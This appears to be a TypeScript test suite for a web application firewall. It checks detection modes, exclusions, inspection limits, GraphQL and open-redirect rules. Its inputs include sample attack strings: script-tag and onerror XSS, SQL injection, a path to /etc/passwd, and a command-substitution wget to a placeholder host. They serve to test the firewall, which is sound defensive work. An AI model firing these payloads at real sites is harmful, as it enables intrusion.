// The WAF as its owner sees it: modes, exclusions, limits, what cannot be inspected, and what is told of it.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { ask, exchangeOf, gate, ordinarySettings, ordinarySite, type Request, tools } from '../../test/waf-asking.ts';
import { build, reasons } from './waf.ts';

const attack: Request = { target: '/?q=<script>alert(1)</script>' };
const json: readonly [string, string] = ['Content-Type', 'application/json'];
const form: readonly [string, string] = ['Content-Type', 'application/x-www-form-urlencoded'];
const script = '<script>alert(1)</script>';

describe('modes', () => {
  test('off looks at nothing', () => {
    const outcome = ask(gate('off'), { ...attack, headers: [json], body: script });
    assert.equal(outcome.why, 'pass');
    assert.equal(outcome.exchange.wafAction, 'off');
    assert.equal(outcome.exchange.findings, null);
  });

  test('detect finds everything and refuses nothing', () => {
    const outcome = ask(gate('detect'), {
      ...attack,
      headers: [json],
      body: JSON.stringify({ a: '../../etc/passwd' }),
    });
    assert.equal(outcome.why, 'pass');
    assert.equal(outcome.exchange.wafAction, 'detect');
    assert.deepEqual(outcome.places, ['ARGS:q', 'JSON:a']);
    assert.deepEqual(
      outcome.exchange.findings!.map((one) => one.phase),
      [1, 2],
    );
    assert.equal(outcome.exchange.wafScore, 10);
  });

  test('block names rule, place and bytes', () => {
    const { verdict } = ask(gate(), attack);
    assert.ok(verdict.kind === 'answer');
    assert.equal(verdict.why, 'waf/cross-site-scripting');
    assert.deepEqual(verdict.rule, { id: '1041001', description: 'cross-site-scripting', at: '' });
    assert.deepEqual(verdict.evidence, { place: 'ARGS:q', value: '<script>alert(1)</script>' });
  });

  test('doubts about several values do not add up, over head and body as little as within either', () => {
    const weak = { target: '/?a=../x&b=../y', headers: [form] };
    assert.equal(ask(gate(), { ...weak, body: 'c=../z' }).exchange.wafScore, 2);
    const more = ask(gate(), { ...weak, body: `c=${encodeURIComponent('<iframe>')}` });
    assert.deepEqual([more.why, more.exchange.wafScore], ['pass', 3]);
  });

  test('a rule that was only suspicious at first counts with the most it says', () => {
    const outcome = ask(gate('detect'), {
      target: `/?a=${encodeURIComponent('x onclick=y')}&b=${encodeURIComponent('" onclick="y()')}`,
    });
    assert.equal(outcome.exchange.wafScore, 5);
    assert.deepEqual(
      outcome.exchange.findings!.map((one) => [one.id, one.score]),
      [
        [1041003, 2],
        [1041003, 5],
      ],
    );
  });

  test('nothing found leaves no list', () => {
    const { exchange } = ask(gate(), { target: '/products?page=2' });
    assert.equal(exchange.findings, null);
    assert.equal(exchange.wafAction, 'pass');
    assert.equal(exchange.wafThreshold, 5);
  });
});

describe('exclusions', () => {
  const code = { target: '/snippets/new', headers: [form], body: `code=${encodeURIComponent(script)}&title=x` };
  const cases: readonly [string, Parameters<typeof gate>[1], Request, string][] = [
    ['source code in a code field', [{ detector: 'cross-site-scripting', place: 'ARGS:code' }], code, 'pass'],
    ['a rule id', [{ detector: '1041001', place: 'ARGS:code' }], code, 'pass'],
    ['every detector in a place', [{ place: 'ARGS:code' }], code, 'pass'],
    ['a place with a star', [{ place: 'ARGS:co*' }], code, 'pass'],
    ['a collection', [{ place: 'ARGS' }], code, 'pass'],
    ['a path above', [{ place: 'ARGS:code', path: '/snippets/' }], code, 'pass'],
    ['another detector', [{ detector: 'sql-injection', place: 'ARGS:code' }], code, 'waf/cross-site-scripting'],
    ['another place', [{ place: 'ARGS:title' }], code, 'waf/cross-site-scripting'],
    ['another path', [{ place: 'ARGS:code', path: '/snip' }], code, 'waf/cross-site-scripting'],
    [
      'a path that can be read in two ways',
      [{ place: 'ARGS:code', path: '/snippets' }],
      { ...code, target: '/snippets/%2e/x' },
      'waf/cross-site-scripting',
    ],
    ['header names without case', [{ place: 'REQUEST_HEADERS:X-Note' }], { headers: [['x-note', script]] }, 'pass'],
    ['the parts of JSON in an argument', [{ place: 'ARGS:data.*' }], { target: `/?data={"a":"${script}"}` }, 'pass'],
    [
      'a compressed body',
      [{ detector: 'evasion', place: 'REQUEST_HEADERS:content-encoding', path: '/' }],
      { headers: [json, ['Content-Encoding', 'gzip']], body: 'xx' },
      'pass',
    ],
  ];
  for (const [name, exclude, request, why] of cases)
    test(name, () => assert.equal(ask(gate('block', exclude), request).why, why));

  test('what is wrong with them is told with the nearest word', () => {
    const exclude = [
      { detector: 'sql-injektion' },
      { detector: 'nonsense' },
      { place: 'ARG:code' },
      { place: 'ARGS:' },
      { place: 'SOMEWHERE' },
      { path: 'admin' },
      { detector: '1041001', place: 'JSON:a.*', path: '/a', because: 'fine' },
    ];
    const made = build(
      ordinarySettings,
      [
        { name: 'a', waf: ordinarySite },
        { name: 'b', waf: { ...ordinarySite, exclude } },
      ],
      tools,
    );
    assert.ok(!made.ok);
    assert.deepEqual(
      made.problems.map(({ path, code, says, instead }) => [path.join('.'), code, says, instead?.slice(0, 34)]),
      [
        [
          'sites.1.waf.exclude.0.detector',
          'waf/unknown-detector',
          'there is no detector "sql-injektion"',
          'did you mean "sql-injection"?',
        ],
        [
          'sites.1.waf.exclude.1.detector',
          'waf/unknown-detector',
          'there is no detector "nonsense"',
          'one of sql-injection, cross-site-s',
        ],
        ['sites.1.waf.exclude.2.place', 'waf/bad-place', 'there is no place "ARG"', '"ARGS:code"'],
        ['sites.1.waf.exclude.3.place', 'waf/bad-place', 'the place "ARGS:" ends with a colon and no name', '"ARGS:*"'],
        [
          'sites.1.waf.exclude.4.place',
          'waf/bad-place',
          'there is no place "SOMEWHERE"',
          'one of REQUEST_FILENAME, ARGS, ARG',
        ],
        [
          'sites.1.waf.exclude.5.path',
          'waf/bad-exclusion-path',
          'the path "admin" does not begin with "/"',
          '"/admin"',
        ],
      ],
    );
  });
});

describe('limits', () => {
  const long = 'x'.repeat(600);
  const tight = { maxInspectedBytes: 512, maxArguments: 3, maxJsonDepth: 4 } as const;
  const cases: readonly [string, Parameters<typeof gate>[2], Request, string, number][] = [
    ['a long form', tight, { headers: [form], body: `a=${long}` }, 'waf/body-too-long-to-inspect', 413],
    [
      'a long field',
      tight,
      {
        headers: [['Content-Type', 'multipart/form-data; boundary=x']],
        body: `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${long}\r\n--x--`,
      },
      'waf/body-too-long-to-inspect',
      413,
    ],
    [
      'a long form that may pass',
      { ...tight, bodyOverLimit: 'pass' },
      { headers: [form], body: `a=${long}` },
      'pass',
      0,
    ],
    [
      'its beginning is judged',
      { ...tight, bodyOverLimit: 'pass' },
      { headers: [json], body: `{"b":"${script}","a":"${long}"}` },
      'waf/cross-site-scripting',
      403,
    ],
    [
      'even its last, cut string',
      { ...tight, bodyOverLimit: 'pass' },
      { headers: [json], body: `{"a":"${script}${long}"}` },
      'waf/cross-site-scripting',
      403,
    ],
    [
      'JSON that is only cut is not broken',
      { ...tight, bodyOverLimit: 'pass' },
      { headers: [json], body: `{"a":"${long}"}` },
      'pass',
      0,
    ],
    ['many arguments', tight, { target: '/?a&b&c&d' }, 'waf/too-many-arguments', 400],
    ['enough arguments', tight, { target: '/?a&b&c' }, 'pass', 0],
    [
      'many strings to judge',
      tight,
      { headers: [json], body: '["a b","a b","a b","a b"]' },
      'waf/too-many-arguments',
      400,
    ],
    ['many plain strings', tight, { headers: [json], body: '["a","b","c","d","e"]' }, 'pass', 0],
    ['deep JSON', tight, { headers: [json], body: '[[[[[1]]]]]' }, 'waf/json-too-deep', 400],
    ['JSON that is deep enough', tight, { headers: [json], body: '[[[[1]]]]' }, 'pass', 0],
  ];
  for (const [name, settings, request, why, status] of cases)
    test(name, () => {
      const outcome = ask(gate('block', [], settings), request);
      assert.equal(outcome.why, why);
      assert.equal(outcome.status, status);
      const detected = ask(gate('detect', [], settings), request);
      assert.equal(detected.why, 'pass');
      assert.equal(detected.exchange.wafAction, why === 'pass' ? 'pass' : 'detect');
    });
});

test('values that cost too much to unwrap end the inspection, and no exclusion excuses that', () => {
  const target = `/?q=${'%252525252541'.repeat(9000)}`;
  const waf = gate('block', [{ place: 'ARGS:q' }], { maxInspectedBytes: 512 });
  assert.equal(ask(waf, { target }).why, 'waf/too-costly');
  assert.equal(ask(waf, { target: target.slice(0, 1004) }).why, 'pass');
});

describe('a failure inside', () => {
  const broken = () => {
    const exchange = exchangeOf({ headers: [json] }, 5);
    Object.defineProperty(exchange, 'path', { get: () => assert.fail('a defect') });
    return exchange;
  };
  test('refuses where the site blocks, and is told', () => {
    const waf = gate();
    const verdict = waf.inspectHead(broken(), waf.policies[0]!);
    assert.ok(verdict.kind === 'answer');
    assert.equal(verdict.why, 'waf/failed');
    assert.equal(verdict.status, 403);
    assert.equal(verdict.says, 'the inspection failed: a defect');
  });
  test('lets pass where the site only detects', () => {
    const waf = gate('detect');
    const exchange = broken();
    assert.equal(waf.inspectHead(exchange, waf.policies[0]!).kind, 'pass');
    assert.equal(exchange.wafAction, 'detect');
  });
});

test('every why has its row, and status is told what stands', () => {
  const waf = gate('block', [{ place: 'ARGS:a' }]);
  for (const detector of waf.describe().detectors) assert.ok(reasons[`waf/${detector}`], detector);
  assert.deepEqual(waf.describe().sites, [{ name: 'example.com', mode: 'block', threshold: 5, exclusions: 1 }]);
});

test('whatever comes, there is a verdict with a known why, and the same one in any pieces', () => {
  const waf = gate();
  const bytes = fc.string({ unit: 'binary', maxLength: 300 });
  const types = fc.constantFrom(
    'application/json',
    'text/xml',
    'multipart/form-data; boundary=x',
    'text/plain',
    form[1],
    'a',
  );
  const pieces = fc.array(fc.nat(9), { maxLength: 30 });
  fc.assert(
    fc.property(bytes, bytes, bytes, types, pieces, (path, query, body, type, sizes) => {
      const request = {
        target: `/${path.replaceAll('?', '')}?${query}`,
        headers: [
          ['Content-Type', type],
          ['X-Any', body],
        ],
        body,
      } as const;
      const whole = ask(waf, request);
      const parts = ask(waf, { ...request, pieces: sizes });
      assert.ok(whole.why === 'pass' || reasons[whole.why], whole.why);
      assert.notEqual(whole.why, 'waf/failed');
      assert.equal(parts.why, whole.why);
    }),
    { numRuns: 300 },
  );
});

describe('what a site says to the built-in rules', () => {
  const introspection: Request = {
    target: '/graphql',
    headers: [['Content-Type', 'application/json']],
    body: JSON.stringify({ query: '{__schema{types{name}}}' }),
  };
  const batch = (count: number): Request => ({
    ...introspection,
    body: JSON.stringify(Array.from({ length: count }, () => ({ query: '{ me { name } }' }))),
  });

  test('a threshold of its own, which the exchange tells', () => {
    const { exchange, why } = ask(gate('block', [], {}, { threshold: 9 }), { target: '/?q=%27%20or%201=1--' });
    assert.deepEqual([why, exchange.wafThreshold, exchange.wafScore], ['pass', 9, 5]);
    assert.equal(ask(gate(), { target: '/?q=%27%20or%201=1--' }).why, 'waf/sql-injection');
  });

  test('whether GraphQL may be asked for its schema, and how much at once', () => {
    const { graphql } = ordinarySite;
    assert.equal(ask(gate(), introspection).why, 'waf/graphql-abuse');
    assert.equal(
      ask(gate('block', [], {}, { graphql: { ...graphql, introspection: true } }), introspection).why,
      'pass',
    );
    assert.deepEqual(
      [20, 21].map((count) => ask(gate(), batch(count)).why),
      ['pass', 'waf/graphql-abuse'],
    );
    assert.equal(ask(gate('block', [], {}, { graphql: { ...graphql, maxBatch: 21 } }), batch(21)).why, 'pass');
  });

  test('where addresses in which arguments may lead; the host of the request always', () => {
    const listed = gate('block', [], {}, { redirects: { parameters: ['Go_On'], hosts: ['*.example.net'] } });
    const of = (waf: typeof listed, query: string) => ask(waf, { target: `/login?${query}` }).why;
    assert.equal(of(gate(), 'next=%2F%2Fevil.example'), 'waf/open-redirect');
    assert.equal(of(gate(), 'next=https://evil.example/'), 'pass');
    assert.equal(of(listed, 'goon=https://evil.example/'), 'waf/open-redirect');
    assert.equal(of(listed, 'goon=https://a.example.net/'), 'pass');
    assert.equal(of(listed, 'goon=https://example.com/x'), 'pass');
    assert.equal(of(listed, 'next=%2F%2Fevil.example'), 'pass');
  });

  test('UTF-7 is read in any value', () => {
    const { exchange, why } = ask(gate(), { target: '/?q=x%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-' });
    assert.equal(why, 'waf/cross-site-scripting');
    assert.deepEqual(exchange.findings?.[0]?.decoded, ['urlDecode', 'utf7Decode']);
    assert.equal(ask(gate(), { target: '/?q=%2BAAA-x%2BABC' }).why, 'pass');
  });
});

describe('what is proof in one place and none in another', () => {
  const json = (value: unknown): Request => ({
    headers: [['Content-Type', 'application/json']],
    body: JSON.stringify(value),
  });

  test('a shell by its path: in a manifest, and in an argument', () => {
    assert.equal(ask(gate(), json({ command: ['/bin/sh', '-c', 'exec app'] })).why, 'pass');
    assert.equal(ask(gate(), { target: '/x?run=%2Fbin%2Fsh' }).why, 'waf/command-injection');
  });

  test('code that a sentence cites, and the same beside it', () => {
    const cites = 'In bash you can write `cat a | bash` to run it';
    assert.equal(ask(gate(), json({ text: cites })).why, 'pass');
    assert.equal(ask(gate(), json({ text: `${cites};$(wget http://q.example/x)` })).why, 'waf/command-injection');
    assert.equal(ask(gate(), json({ text: 'the tag `<script>` is one that runs' })).why, 'pass');
    const both = 'the tag `<script>` is one that runs <img src=x onerror=alert(1)>';
    assert.equal(ask(gate(), json({ text: both })).why, 'waf/cross-site-scripting');
  });
});
